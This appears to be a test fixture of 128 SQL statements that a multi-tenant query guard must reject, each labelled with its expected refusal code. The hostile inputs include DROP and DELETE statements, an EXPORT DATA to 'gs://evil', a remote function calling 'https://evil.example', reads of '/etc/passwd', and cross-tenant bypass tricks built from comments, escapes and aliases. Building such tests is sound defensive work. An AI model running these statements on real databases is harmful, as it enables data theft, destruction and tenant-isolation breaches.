-- Statements that must be refused before an engine sees them, each with the code of its refusal (several: any of them).
-- `mart.mine` is the tenant's own table; `other.secrets` is another tenant's, as is the whole project `rival-prod`.

-- # h01 one_statement: two statements
SELECT 1; SELECT 2
-- # h02 one_statement: a drop behind a query
SELECT 1 AS a; DROP TABLE mart.mine
-- # h03 one_statement: a drop hidden behind a comment
SELECT 1 AS a -- harmless
; DELETE FROM mart.mine WHERE true
-- # h04 read_only: drop
DROP TABLE mart.mine
-- # h05 read_only: delete
DELETE FROM mart.mine WHERE true
-- # h06 read_only: insert
INSERT INTO mart.mine (a) VALUES (1)
-- # h07 read_only: update
UPDATE mart.mine SET a = 1 WHERE true
-- # h08 read_only: merge
MERGE mart.mine t USING mart.mine s ON t.a = s.a WHEN MATCHED THEN DELETE
-- # h09 read_only: create table as
CREATE TABLE mart.x AS SELECT 1 AS a
-- # h10 read_only: create a view
CREATE OR REPLACE VIEW mart.v AS SELECT * FROM mart.mine
-- # h11 read_only: create a function of JavaScript
CREATE TEMP FUNCTION f(x INT64) RETURNS INT64 LANGUAGE js AS "return x"
-- # h12 read_only: a remote function
CREATE FUNCTION mart.f(x INT64) RETURNS INT64 REMOTE WITH CONNECTION `p.eu.c` OPTIONS (endpoint = 'https://evil.example')
-- # h13 read_only: an external table
CREATE EXTERNAL TABLE mart.x OPTIONS (format = 'CSV', uris = ['gs://evil/x.csv'])
-- # h14 read_only: truncate
TRUNCATE TABLE mart.mine
-- # h15 read_only: alter
ALTER TABLE mart.mine ADD COLUMN b INT64
-- # h16 read_only: drop a dataset
DROP SCHEMA mart CASCADE
-- # h17 read_only: call
CALL mart.p()
-- # h18 read_only: dynamic SQL
EXECUTE IMMEDIATE 'SELECT 1'
-- # h19 read_only: export
EXPORT DATA OPTIONS (uri = 'gs://evil/*.csv', format = 'CSV') AS SELECT * FROM mart.mine
-- # h20 read_only: load
LOAD DATA INTO mart.x FROM FILES (format = 'CSV', uris = ['gs://evil/x.csv'])
-- # h21 read_only: grant
GRANT `roles/bigquery.dataViewer` ON TABLE mart.mine TO 'user:evil@example.com'
-- # h22 read_only: a model
CREATE MODEL mart.m OPTIONS (model_type = 'linear_reg') AS SELECT 1 AS label
-- # h23 read_only: set a setting
SET memory_limit = '1TB'
-- # h24 read_only invalid_sql: pragma
PRAGMA database_list
-- # h25 read_only invalid_sql: attach
ATTACH '/tmp/x.db' AS x
-- # h26 read_only: copy
COPY mart.mine TO '/tmp/x.csv'
-- # h27 read_only invalid_sql: install
INSTALL httpfs
-- # h28 read_only: explain what may not run
EXPLAIN SELECT * FROM other.secrets
-- # h29 read_only: describe another's table
DESCRIBE other.secrets
-- # h30 read_only: writing inside a WITH
WITH gone AS (DELETE FROM mart.mine WHERE true RETURNING *) SELECT * FROM gone
-- # h31 not_found: another tenant's table
SELECT * FROM other.secrets
-- # h32 not_found: in a scalar sub-query
SELECT (SELECT MAX(a) FROM other.secrets) AS a
-- # h33 not_found: in EXISTS
SELECT 1 AS a WHERE EXISTS (SELECT 1 FROM other.secrets)
-- # h34 not_found: in IN
SELECT a FROM mart.mine WHERE a IN (SELECT a FROM other.secrets)
-- # h35 not_found: in a UNION
SELECT a FROM mart.mine UNION ALL SELECT a FROM other.secrets
-- # h36 not_found: in pipe syntax
FROM other.secrets |> SELECT a
-- # h37 not_found: joined in pipe syntax
FROM mart.mine |> JOIN other.secrets USING (a) |> SELECT a
-- # h38 not_found: in ARRAY()
SELECT ARRAY(SELECT a FROM other.secrets) AS a
-- # h39 not_found: in QUALIFY
SELECT a FROM mart.mine QUALIFY ROW_NUMBER() OVER (ORDER BY (SELECT MAX(a) FROM other.secrets)) = 1
-- # h40 not_found: in ORDER BY
SELECT a FROM mart.mine ORDER BY (SELECT MAX(a) FROM other.secrets)
-- # h41 not_found: in a join condition
SELECT m.a FROM mart.mine AS m JOIN mart.mine AS n ON m.a = (SELECT MAX(a) FROM other.secrets)
-- # h42 not_found: in a window
SELECT SUM(a) OVER (PARTITION BY (SELECT MAX(a) FROM other.secrets)) AS s FROM mart.mine
-- # h43 not_found: behind a CTE of its own name
WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets
-- # h44 not_found: beside a CTE that only an inner query knows
SELECT * FROM (WITH secrets AS (SELECT 1 AS a) SELECT * FROM secrets) AS x, secrets AS y
-- # h45 not_found: a CTE does not stand for a table of a dataset
WITH secrets AS (SELECT 1 AS a) SELECT * FROM other.secrets
-- # h46 not_found: used before its CTE is made
WITH x AS (SELECT * FROM secrets), secrets AS (SELECT 1 AS a) SELECT * FROM x
-- # h47 not_found: one identifier with dots
SELECT * FROM `other.secrets`
-- # h48 not_allowed: another project, one identifier
SELECT * FROM `rival-prod.mart.mine`
-- # h49 not_allowed: another project, parts
SELECT * FROM `rival-prod`.mart.mine
-- # h50 not_allowed: another project with a bare dash
SELECT * FROM rival-prod.mart.mine
-- # h51 not_allowed: another project, half quoted
SELECT * FROM `rival-prod`.`mart.mine`
-- # h52 not_found: an alias that looks like a dataset does not open it
SELECT * FROM mart.mine AS m WHERE EXISTS (SELECT 1 FROM other.secrets AS m)
-- # h53 not_found: a wildcard over another dataset
SELECT * FROM `other.sec*`
-- # h54 not_allowed: a wildcard over another project
SELECT * FROM `rival-prod.mart.*`
-- # h55 bad_table invalid_sql: a wildcard over datasets
SELECT * FROM `oth*.secrets`
-- # h56 bad_table: a partition decorator
SELECT * FROM `mart.mine$20250101`
-- # h57 bad_table: a snapshot decorator
SELECT * FROM `mart.mine@-3600000`
-- # h58 not_found: time travel into another tenant
SELECT * FROM other.secrets FOR SYSTEM_TIME AS OF TIMESTAMP_SUB(CURRENT_TIMESTAMP(), INTERVAL 1 MINUTE)
-- # h59 not_allowed: time travel that reads in its moment
SELECT * FROM mart.mine FOR SYSTEM_TIME AS OF EXTERNAL_QUERY('c', 'SELECT 1')
-- # h60 not_allowed: metadata of a region
SELECT * FROM `region-eu`.INFORMATION_SCHEMA.TABLES
-- # h61 not_allowed: jobs of everybody
SELECT * FROM `region-eu`.INFORMATION_SCHEMA.JOBS_BY_PROJECT
-- # h62 not_allowed: jobs without a region
SELECT * FROM INFORMATION_SCHEMA.JOBS
-- # h63 not_allowed: metadata of a region, one identifier
SELECT * FROM `rival-prod.region-eu.INFORMATION_SCHEMA.TABLES`
-- # h64 not_allowed: privileges
SELECT * FROM mart.INFORMATION_SCHEMA.OBJECT_PRIVILEGES
-- # h65 not_allowed: another system by EXTERNAL_QUERY
SELECT * FROM EXTERNAL_QUERY('connection', 'SELECT * FROM users')
-- # h66 not_allowed: a model
SELECT * FROM ML.PREDICT(MODEL mart.m, TABLE mart.mine)
-- # h67 not_allowed: a language model
SELECT AI.GENERATE('say something') AS a
-- # h68 not_allowed: keys
SELECT KEYS.NEW_KEYSET('AEAD_AES_GCM_256') AS a
-- # h69 not_allowed: decryption
SELECT AEAD.DECRYPT_STRING(KEYS.KEYSET_CHAIN('gcp-kms://x', b'1'), b'2', '') AS a
-- # h70 not_allowed: a function of another dataset
SELECT other.spy('x') AS a
-- # h71 not_allowed: a function of another project
SELECT `rival-prod.fn.lower`('x') AS a
-- # h72 not_allowed: a function named like one of BigQuery's
SELECT evil.d.lower('x') AS a
-- # h73 not_allowed: a public function library
SELECT bqutil.fn.int('1') AS a
-- # h74 not_allowed: a table function
SELECT * FROM other.tvf(1)
-- # h75 not_allowed: in a sub-query
SELECT (SELECT MAX(x) FROM UNNEST([other.spy('x')]) AS x) AS a
-- # h76 not_allowed: in a CTE that is not used
WITH x AS (SELECT other.spy('x') AS a) SELECT 1 AS a
-- # h77 not_allowed: in UNNEST
SELECT x FROM UNNEST(other.spy([1])) AS x
-- # h78 not_allowed: in QUALIFY
SELECT a FROM mart.mine QUALIFY ROW_NUMBER() OVER (ORDER BY other.spy(a)) = 1
-- # h79 not_allowed: in ORDER BY
SELECT a FROM mart.mine ORDER BY other.spy(a)
-- # h80 not_allowed: in a named window
SELECT SUM(a) OVER w AS s FROM mart.mine WINDOW w AS (PARTITION BY other.spy(a))
-- # h81 not_allowed: in GROUP BY
SELECT COUNT(*) AS n FROM mart.mine GROUP BY other.spy(a)
-- # h82 not_allowed: in HAVING
SELECT a FROM mart.mine GROUP BY a HAVING other.spy(a) = 1
-- # h83 not_allowed: in a join condition
SELECT m.a FROM mart.mine AS m JOIN mart.mine AS n ON other.spy(m.a) = n.a
-- # h84 not_allowed: in a pipe
FROM mart.mine |> EXTEND other.spy(a) AS b |> WHERE b = 1
-- # h85 not_allowed: behind SAFE
SELECT SAFE.other.spy(1) AS a
-- # h86 unknown_function: a file as a function
SELECT read_text('/etc/passwd') AS a
-- # h87 not_allowed: a file as a table function
SELECT * FROM read_csv('/etc/passwd')
-- # h88 not_allowed: a Parquet file as a table function
SELECT * FROM read_parquet('/tmp/*.parquet')
-- # h89 not_allowed invalid_sql: a listing of files
SELECT * FROM glob('/*')
-- # h90 bad_table: a file as a string
SELECT * FROM '/etc/passwd'
-- # h91 bad_table: a file in backticks
SELECT * FROM `/etc/passwd`
-- # h92 bad_table not_found not_allowed: a file with its ending
SELECT * FROM `../secrets.parquet`
-- # h93 unknown_function: the environment
SELECT getenv('HOME') AS a
-- # h94 not_allowed: settings
SELECT * FROM duckdb_settings()
-- # h95 unknown_function: one setting
SELECT current_setting('secret_directory') AS a
-- # h96 unknown_function: a query in a string
SELECT query('SELECT 1') AS a
-- # h97 not_allowed: a query in a string as a table
SELECT * FROM query('SELECT * FROM other.secrets')
-- # h98 not_found: the engine's catalogue
SELECT * FROM duckdb_tables
-- # h99 not_found: the engine's catalogue in its schema
SELECT * FROM pg_catalog.pg_tables
-- # h100 not_found: SQLite's catalogue
SELECT * FROM sqlite_master
-- # h101 not_found: objects of the session
SELECT * FROM penstock.table1
-- # h102 unknown_function: a function of the engine
SELECT list_sort([2, 1]) AS a
-- # h103 unknown_function: a macro of our own
SELECT bq_at([1], 0) AS a
-- # h104 unknown_function: the engine's version
SELECT version() AS a
-- # h105 not_allowed: a system variable
SELECT @@version AS a
-- # h106 not_allowed: a system variable with a dot
SELECT @@error.message AS a
-- # h107 not_allowed: the last job
SELECT @@last_job_id AS a
-- # h108 not_allowed: an array path of a name that is no alias
SELECT a FROM UNNEST([1]) AS a WHERE a = other.spy(a)
-- # h109 not_found: two tables and the second is another's
SELECT m.a FROM mart.mine AS m, other.secrets AS s
-- # h110 not_found: the alias of an inner query is not known outside
SELECT (SELECT 1 FROM mart.mine AS other) AS a, (SELECT MAX(a) FROM other.secrets) AS b
-- # h111 limit: text without end
SELECT REPEAT('x', 2000000000) AS a
-- # h112 limit: padding without end
SELECT LPAD('x', 2000000000, 'y') AS a
-- # h113 limit: an array without end
SELECT GENERATE_ARRAY(1, 1000000000) AS a
-- # h114 limit: a product of generated arrays
SELECT COUNT(*) AS n FROM UNNEST(GENERATE_ARRAY(1, 1000000)) AS x, UNNEST(GENERATE_ARRAY(1, 1000000)) AS y
-- # h115 limit: a product of a large table with itself
SELECT COUNT(*) AS n FROM mart.large AS x, mart.large AS y
-- # h116 limit: a product in a sub-query
SELECT a FROM mart.mine WHERE EXISTS (SELECT 1 FROM mart.large AS x CROSS JOIN mart.large AS y)
-- # h117 limit: a join on true
SELECT COUNT(*) AS n FROM mart.large AS x JOIN mart.large AS y ON true
-- # h118 limit: a product of CTEs
WITH l AS (SELECT a FROM mart.large) SELECT COUNT(*) AS n FROM l AS x, l AS y
-- # h119 limit: a product that only a condition on one side narrows
SELECT COUNT(*) AS n FROM mart.large AS x CROSS JOIN mart.large AS y WHERE x.a = 1
-- # h120 data: a recursion without end
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT SUM(n) AS s FROM r
-- # h121 data: a recursion that goes in a circle
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT 1 - n FROM r) SELECT COUNT(*) AS c FROM r
-- # h122 invalid_sql: a recursion that doubles itself
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT x.n FROM r AS x, r AS y) SELECT COUNT(*) AS c FROM r
-- # h123 two_readings: a comment that BigQuery does not know
SELECT a {# FROM mart.mine #} FROM other.secrets
-- # h124 two_readings: an alias named like a dataset, and a table of that dataset in one pair of backticks
SELECT m.a FROM mart.mine AS other, `other.secrets` AS m
-- # h125 not_allowed: the older language
#legacySQL
SELECT * FROM mart.mine
-- # h126 not_found: a name with an escape
SELECT * FROM `oth\u0065r`.secrets
-- # h127 not_found: a comment inside of a comment
SELECT m.a FROM mart.mine AS m /* /* */ , other.secrets -- */
-- # h128 not_found: a quoted name that ends with a backslash
SELECT 1 AS `a\` , ` , s.a FROM other.secrets AS s -- `
